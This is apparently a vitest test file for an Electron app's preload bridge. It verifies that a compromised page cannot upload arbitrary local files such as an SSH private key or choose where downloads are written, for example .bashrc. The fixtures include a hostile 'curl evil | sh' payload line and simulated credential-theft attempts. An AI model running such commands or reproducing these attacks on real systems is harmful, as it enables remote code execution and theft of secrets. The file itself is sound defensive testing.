/**
 * The preload's file resolution (src-preload/index.ts): the renderer hands `invoke` the File
 * objects the user dropped or picked, and only those become local paths for the desktop upload
 * procedures. A path string, a File built in script, or anything posing as a File is refused
 * before the call leaves the preload, so a compromised page cannot upload ~/.ssh/id_rsa, and
 * cannot choose where a download is written (docs/ui.md, "Local paths of dropped files";
 * contract: files.uploadPaths, files.uploadPath, files.download).
 *
 * No Electron binary can run here, so the three Electron objects the preload uses are stood in
 * for: `contextBridge` hands over what the preload exposes, `webUtils.getPathForFile` knows the
 * paths of the Files "the OS handed over" (and, as Electron's does, answers '' for any other
 * File), and `ipcRenderer.invoke` goes straight into the main process's real rpc handler
 * (src-main/ipc/rpc.ts) over a real app. Everything behind the preload is the real code, and
 * the uploaded files are real files on disk.
 */
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { IpcMain } from 'electron';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { createApp, type App } from '../../src-main/app';
import type { RpcResult } from '../../src-main/contract';
import { registerRpc, RPC_CHANNEL } from '../../src-main/ipc/rpc';
import { createHandlers } from '../../src-main/rpc/handlers';
import { scratchDir } from '../servers/util';

const electron = vi.hoisted(() => {
  const handedOver = new WeakMap<object, string>();
  const state = {
    handedOver,
    exposed: new Map<string, unknown>(),
    /** The main process's `rpc` handler, set once the app is up. */
    main: null as null | ((event: unknown, procedure: unknown, input: unknown) => Promise<unknown>),
    /** Every call that crossed to the main process. */
    crossed: [] as { procedure: unknown; input: unknown }[],
  };
  return state;
});

vi.mock('electron', () => ({
  contextBridge: { exposeInMainWorld: (key: string, api: unknown) => electron.exposed.set(key, api) },
  webUtils: { getPathForFile: (file: object) => electron.handedOver.get(file) ?? '' },
  ipcRenderer: {
    invoke: async (channel: string, procedure: unknown, input: unknown) => {
      if (channel !== 'rpc' || !electron.main) throw new Error(`unexpected channel ${channel}`);
      electron.crossed.push({ procedure, input });
      return electron.main({ senderFrame: { url: 'app://tributary/index.html', parent: null } }, procedure, input);
    },
    on: () => undefined,
    removeListener: () => undefined,
  },
}));

interface Bridge {
  invoke(procedure: string, input: unknown): Promise<RpcResult<any>>;
  subscribe(event: string, listener: (payload: unknown) => void): () => void;
}

let dir: string;
let app: App;
let account: number;
let bridge: Bridge;

/** A real file on disk, and the File object the OS hands the renderer when it is dropped. */
function dropped(name: string, content: string): { file: File; path: string } {
  const path = join(dir, 'desktop', name);
  writeFileSync(path, content);
  const file = new File([content], name);
  electron.handedOver.set(file, path);
  return { file, path };
}

async function namesInRoot(): Promise<string[]> {
  return (await app.storage.list(account, 'root', 1, 1000)).items.map((i) => i.name).sort();
}

async function contentOf(name: string): Promise<string> {
  const item = (await app.storage.list(account, 'root', 1, 1000)).items.find((i) => i.name === name)!;
  const chunks: Buffer[] = [];
  for await (const c of (await app.storage.download(account, item.id)).stream) chunks.push(c as Buffer);
  return Buffer.concat(chunks).toString();
}

beforeAll(async () => {
  dir = scratchDir('preload');
  mkdirSync(join(dir, 'desktop'));
  app = await createApp({ dataDir: join(dir, 'data'), defaultLocalFolder: false });
  const registered = new Map<string, (event: unknown, procedure: unknown, input: unknown) => Promise<unknown>>();
  const ipcMain = { handle: (channel: string, fn: (event: unknown, procedure: unknown, input: unknown) => Promise<unknown>) => registered.set(channel, fn), removeHandler: () => undefined };
  registerRpc(ipcMain as unknown as IpcMain, createHandlers(app, { mode: 'electron', version: 'test' }), (url) => url.startsWith('app://tributary/'));
  electron.main = registered.get(RPC_CHANNEL)!;
  await import('../../src-preload/index');
  bridge = electron.exposed.get('tributary') as Bridge;
});

beforeEach(async () => {
  electron.crossed.length = 0;
  account = (await app.accounts.connect({ service: 'memory', options: { store: `preload-${Math.random().toString(36).slice(2)}` } })).id;
});

afterAll(async () => {
  await app?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('preload: window.tributary', () => {
  it('exposes exactly { invoke, subscribe }, and passes other procedures through unchanged', async () => {
    expect([...electron.exposed.keys()]).toEqual(['tributary']);
    expect(Object.keys(bridge).sort()).toEqual(['invoke', 'subscribe']);
    const r = await bridge.invoke('files.list', { account, folder: 'root' });
    expect(r).toMatchObject({ ok: true, value: { items: [] } });
    expect(electron.crossed).toEqual([{ procedure: 'files.list', input: { account, folder: 'root' } }]);
  });
});

describe('preload: local paths come only from Files the OS handed over', () => {
  it('files.uploadPath: a dropped File becomes its path, and the file arrives byte-identical', async () => {
    const { file, path } = dropped('report.txt', 'quarterly figures');
    const r = await bridge.invoke('files.uploadPath', { account, parent: 'root', path: file });
    expect(r).toMatchObject({ ok: true, value: { name: 'report.txt', size: 17 } });
    expect(electron.crossed).toEqual([{ procedure: 'files.uploadPath', input: { account, parent: 'root', path } }]);
    expect(await contentOf('report.txt')).toBe('quarterly figures');
  });

  it('files.uploadPaths: every dropped File becomes its path; the uploads run in the background', async () => {
    const a = dropped('a.txt', 'first');
    const b = dropped('b.txt', 'second');
    const r = await bridge.invoke('files.uploadPaths', { account, parent: 'root', paths: [a.file, b.file] });
    expect(r).toEqual({ ok: true, value: { started: 2 } });
    expect(electron.crossed).toEqual([{ procedure: 'files.uploadPaths', input: { account, parent: 'root', paths: [a.path, b.path] } }]);
    await vi.waitFor(async () => expect(await namesInRoot()).toEqual(['a.txt', 'b.txt']), { timeout: 20_000, interval: 50 });
    expect([await contentOf('a.txt'), await contentOf('b.txt')]).toEqual(['first', 'second']);
  });

  it('refuses a path string, even of a real readable file, before anything reaches the main process', async () => {
    const secret = join(dir, 'desktop', 'id_rsa');
    writeFileSync(secret, '-----BEGIN OPENSSH PRIVATE KEY-----');
    const { file } = dropped('ok.txt', 'fine');
    for (const [procedure, input] of [
      ['files.uploadPath', { account, parent: 'root', path: secret }],
      ['files.uploadPaths', { account, parent: 'root', paths: [secret] }],
      // One forged entry refuses the whole call: the dropped File beside it is not uploaded either.
      ['files.uploadPaths', { account, parent: 'root', paths: [file, secret] }],
      ['files.uploadPaths', { account, parent: 'root', paths: secret }],
      ['files.uploadPaths', { account, parent: 'root' }],
    ] as const) {
      const r = await bridge.invoke(procedure, input);
      expect(r, `${procedure} ${JSON.stringify(input)}`).toMatchObject({ ok: false, error: { code: 'invalid_parameters', status: 400 } });
    }
    expect(electron.crossed).toEqual([]);
    expect(await namesInRoot()).toEqual([]);
  });

  it('refuses a File built in script and anything posing as a File', async () => {
    const secret = join(dir, 'desktop', 'id_rsa');
    const inScript = new File(['typed by the page'], 'notes.txt');
    const forgeries: unknown[] = [
      inScript,
      { name: 'id_rsa', path: secret, size: 10, type: '' },
      new Blob(['x']),
      Object.create(File.prototype),
      null,
      42,
    ];
    const r = await bridge.invoke('files.uploadPath', { account, parent: 'root', path: inScript });
    expect(r).toMatchObject({ ok: false, error: { code: 'invalid_parameters', message: '"notes.txt" is not a file on this computer.' } });
    for (const forged of forgeries) {
      const one = await bridge.invoke('files.uploadPath', { account, parent: 'root', path: forged });
      expect(one, String(forged)).toMatchObject({ ok: false, error: { code: 'invalid_parameters' } });
      const many = await bridge.invoke('files.uploadPaths', { account, parent: 'root', paths: [forged] });
      expect(many, String(forged)).toMatchObject({ ok: false, error: { code: 'invalid_parameters' } });
    }
    expect(electron.crossed).toEqual([]);
    expect(await namesInRoot()).toEqual([]);
  });

  it('files.download: the page cannot choose where the file is written', async () => {
    const target = join(dir, 'desktop', '.bashrc');
    writeFileSync(target, 'alias ls=ls');
    const up = await bridge.invoke('files.uploadPath', { account, parent: 'root', path: dropped('payload.sh', 'curl evil | sh').file });
    electron.crossed.length = 0;
    const r = await bridge.invoke('files.download', { account, id: (up as { value: { id: string } }).value.id, to: target });
    expect(r).toMatchObject({ ok: false, error: { code: 'invalid_parameters', message: 'The page cannot choose where a download is saved.' } });
    expect(electron.crossed).toEqual([]);
    expect(readFileSync(target, 'utf8')).toBe('alias ls=ls');
  });
});

describe('main process: what it does with the paths it is given', () => {
  it('a folder given to files.uploadPath (one file, awaited), or a file gone before the call, is a clear invalid_parameters and nothing is uploaded', async () => {
    const folder = join(dir, 'desktop', 'Photos');
    mkdirSync(folder);
    const asFile = new File([], 'Photos');
    electron.handedOver.set(asFile, folder);
    const gone = dropped('gone.txt', 'soon gone');
    rmSync(gone.path);
    for (const [file, name] of [[asFile, 'Photos'], [gone.file, 'gone.txt']] as const) {
      expect(await bridge.invoke('files.uploadPath', { account, parent: 'root', path: file })).toMatchObject({ ok: false, error: { code: 'invalid_parameters', message: `"${name}" is not a readable file.` } });
    }
    expect(await bridge.invoke('files.uploadPaths', { account, parent: 'root', paths: [gone.file] })).toMatchObject({ ok: false, error: { code: 'invalid_parameters', message: '"gone.txt" is not a readable file.' } });
    expect(await namesInRoot()).toEqual([]);
  });

  it('headless, the same call is refused: no page there may name local paths at all', async () => {
    const { path } = dropped('plain.txt', 'plain');
    const headless = new Map<string, (event: unknown, procedure: unknown, input: unknown) => Promise<unknown>>();
    registerRpc({ handle: (c: string, fn: any) => headless.set(c, fn), removeHandler: () => undefined } as unknown as IpcMain, createHandlers(app, { mode: 'headless', version: 'test' }), () => true);
    const r = await headless.get(RPC_CHANNEL)!({ senderFrame: { url: 'app://tributary/index.html', parent: null } }, 'files.uploadPath', { account, parent: 'root', path });
    expect(r).toMatchObject({ ok: false, error: { code: 'not_implemented' } });
    expect(await namesInRoot()).toEqual([]);
  });

  it('a dropped folder given to files.uploadPaths goes up with what is inside it (one transfer)', async () => {
    const folder = join(dir, 'desktop', 'Holiday');
    mkdirSync(folder);
    writeFileSync(join(folder, 'inside.txt'), 'inside');
    const asFile = new File([], 'Holiday');
    electron.handedOver.set(asFile, folder);
    expect(await bridge.invoke('files.uploadPaths', { account, parent: 'root', paths: [asFile] })).toMatchObject({ ok: true, value: { started: 1 } });
    await expect.poll(() => app.transfers.list().find((t) => t.name === 'Holiday')?.state).toBe('done');
    const holiday = (await app.storage.list(account, 'root', 1, 1000)).items.find((i) => i.name === 'Holiday')!;
    expect((await app.storage.list(account, holiday.id)).items.map((i) => i.name)).toEqual(['inside.txt']);
  });
});
